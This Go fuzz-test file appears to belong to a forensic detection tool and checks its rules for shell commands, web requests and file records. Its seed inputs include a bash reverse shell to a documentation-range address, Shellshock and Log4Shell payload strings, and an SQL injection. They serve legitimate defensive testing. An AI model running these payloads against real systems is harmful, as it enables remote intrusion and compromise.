package builtin

import (
	"strings"
	"testing"
	"time"

	"deadbox/fs/filesystem"
	"deadbox/rules"
	"deadbox/timeline"
)

func FuzzJudge(f *testing.F) {
	for _, r := range All {
		for _, ex := range append(r.True, r.False...) {
			for _, rec := range ex.Records {
				if c := rec.Fields["command"]; c != "" {
					f.Add(c, "/tmp")
				}
			}
		}
	}
	f.Add("a $($($($(`\"'\\", "")
	f.Fuzz(func(t *testing.T, line, cwd string) {
		for _, a := range judge(line, cwd) {
			if a.why == "" || a.severity > rules.Critical {
				t.Errorf("%+v", a)
			}
		}
		n := 0
		each(parseShell(line), func(*command) { n++ })
		if n > 8*maxShellLine {
			t.Errorf("%d commands", n)
		}
	})
}

func FuzzRequest(f *testing.F) {
	for _, u := range cleanURLs {
		f.Add(u, "Mozilla/5.0", "")
	}
	for _, u := range hostileURLs {
		f.Add(u.url, "() { :;}; id", "${jndi:${lower:l}dap://x}")
	}
	f.Fuzz(func(t *testing.T, url, agent, referer string) {
		var m requestMatcher
		got := m.judge("GET", url, agent, referer)
		if got.attack != noAttack && got.what == "" {
			t.Errorf("%+v", got)
		}
		if again := m.judge("GET", url, agent, referer); again != got {
			t.Errorf("%+v, then %+v", got, again)
		}
	})
}

func FuzzCapabilities(f *testing.F) {
	f.Add([]byte{1, 0, 0, 2, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0})
	f.Add([]byte{0, 0, 0, 1, 1, 2, 3, 4, 5, 6, 7, 8})
	f.Add([]byte{0, 0, 0, 3})
	f.Fuzz(func(t *testing.T, v []byte) {
		perm, _, _, ok := fileCapabilities(v)
		if ok != (len(v) >= 12 && v[3] == 1 || len(v) >= 20 && (v[3] == 2 || v[3] == 3)) {
			t.Errorf("%x: %v", v, ok)
		}
		if (capabilityText(perm) == "") != (perm == 0) {
			t.Errorf("%x: %q", perm, capabilityText(perm))
		}
	})
}

// FuzzRules shows all rules records whose every text is hostile.
func FuzzRules(f *testing.F) {
	f.Add("web-access", "/index.php?a='or 1=1", "203.0.113.9", "200", "login-failed", int64(1709647200), uint16(0o104755), "elf")
	f.Add("auth", "bash -i >& /dev/tcp/198.51.100.7/9 0>&1", "root", "0", "sudo", int64(0), uint16(0o100644), "")
	f.Add("file", "/tmp/.. /x", "www-data", "33", "useradd", int64(-1), uint16(0o120777), "script")
	f.Add("change", "/usr/bin/ps", "root", "", "cron-run", int64(1<<40), uint16(0o40755), "php")
	f.Fuzz(func(t *testing.T, kind, text, name, number, action string, when int64, mode uint16, magic string) {
		if len(text) > 4096 {
			return
		}
		path := text
		if !strings.HasPrefix(path, "/") {
			path = "/" + path
		}
		stamp := filesystem.Time{Sec: when, Known: when != 0}
		file := &timeline.File{Path: path, Mode: filesystem.Mode(mode), Type: filesystem.Mode(mode).Type(), Size: int64(len(text)), Magic: magic, Target: text,
			Times: filesystem.Times{Born: stamp, Changed: stamp, Modified: stamp}, Flags: filesystem.Flags(mode), Xattrs: []filesystem.Xattr{{Name: "security.capability", Value: []byte(text)}}}
		other := *file
		other.Size++
		r := timeline.Record{Kind: kind, File: file, Change: &timeline.Change{What: action, Before: &other, After: file, Differs: []string{action, "content"}},
			Fields: map[string]string{}, Stamps: []timeline.Stamp{{When: time.Unix(when, 0)}}, Evidence: timeline.Evidence{Path: path, Line: int(mode)}}
		for _, k := range []string{"command", "url", "message", "options", "strings", "members", "text", "value", "user_agent", "referer", "query", "path", "cwd"} {
			r.Fields[k] = text
		}
		for _, k := range []string{"account", "target", "name", "address", "program", "group", "service", "method", "area", "key"} {
			r.Fields[k] = name
		}
		for _, k := range []string{"uid", "count", "status", "by_uid"} {
			r.Fields[k] = number
		}
		r.Fields["action"] = action
		for _, env := range []rules.Env{{}, debianEnv, debianBaseline} {
			e := rules.NewEngine(All, &env)
			for _, k := range []string{kind, timeline.KindFile, timeline.KindChange, timeline.KindStrings, timeline.KindSetting} {
				r.Kind = k
				e.Record(&r)
			}
			r.Change.What = "content"
			e.Record(&r)
			for _, fd := range e.Findings() {
				if fd.ID == "" || fd.Summary == "" || fd.Count == 0 || len(fd.Evidence) == 0 || fd.Severity > rules.Critical {
					t.Errorf("incomplete finding %+v", fd)
				}
				for _, c := range fd.Summary {
					if c < 0x20 || c == 0x7f || c == 0xfffd || c == 0x202e {
						t.Errorf("a summary with a character that does not print: %q", fd.Summary)
						break
					}
				}
			}
			e.Notes()
		}
	})
}
